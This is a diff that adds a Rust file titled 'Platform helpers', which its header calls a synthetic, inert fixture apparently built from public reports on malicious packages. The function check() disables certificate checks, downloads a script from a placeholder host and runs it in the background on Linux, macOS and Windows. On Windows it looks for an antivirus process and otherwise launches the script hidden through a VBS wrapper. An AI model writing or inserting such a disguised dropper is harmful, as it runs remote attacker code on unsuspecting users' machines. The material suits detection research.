@@ -1,0 +1,64 @@
+// Synthetic, inert fixture written from public reports; see README
+//! Platform helpers.
+
+fn fetch(url: &str) -> Option<Vec<u8>> {
+    let client = reqwest::blocking::Client::builder()
+        .danger_accept_invalid_certs(true)
+        .build()
+        .ok()?;
+    Some(client.get(url).send().ok()?.bytes().ok()?.to_vec())
+}
+
+pub(crate) fn check() {
+    let host = "https://download.example.invalid/";
+    let folder = std::env::temp_dir();
+    match std::env::consts::OS {
+        "linux" => {
+            let file = folder.join("init");
+            let Some(body) = fetch(&format!("{host}init")) else {
+                return;
+            };
+            let _ = std::fs::write(&file, body);
+            let _ = std::process::Command::new("nohup").arg("bash").arg(&file).spawn();
+        }
+        "macos" => {
+            let file = folder.join("init");
+            let Some(body) = fetch(&format!("{host}init")) else {
+                return;
+            };
+            let _ = std::fs::write(&file, body);
+            let _ = std::process::Command::new("osascript")
+                .arg("-e")
+                .arg("do shell script \"nohup bash /tmp/init &\"")
+                .spawn();
+        }
+        "windows" => {
+            let tasks = std::process::Command::new("tasklist")
+                .output()
+                .map(|o| o.stdout)
+                .unwrap_or_default();
+            let guarded = String::from_utf8_lossy(&tasks)
+                .to_lowercase()
+                .contains("qhsafetray.exe");
+            let file = folder.join("init.ps1");
+            let Some(body) = fetch(&format!("{host}init.ps1")) else {
+                return;
+            };
+            let _ = std::fs::write(&file, body);
+            if guarded {
+                let _ = std::process::Command::new("powershell")
+                    .arg("-File")
+                    .arg(&file)
+                    .spawn();
+            } else {
+                let script = folder.join("init.vbs");
+                let _ = std::fs::write(
+                    &script,
+                    "CreateObject(\"WScript.Shell\").Run \"powershell -File init.ps1\", 0",
+                );
+                let _ = std::process::Command::new("wscript").arg(&script).spawn();
+            }
+        }
+        _ => {}
+    }
+}
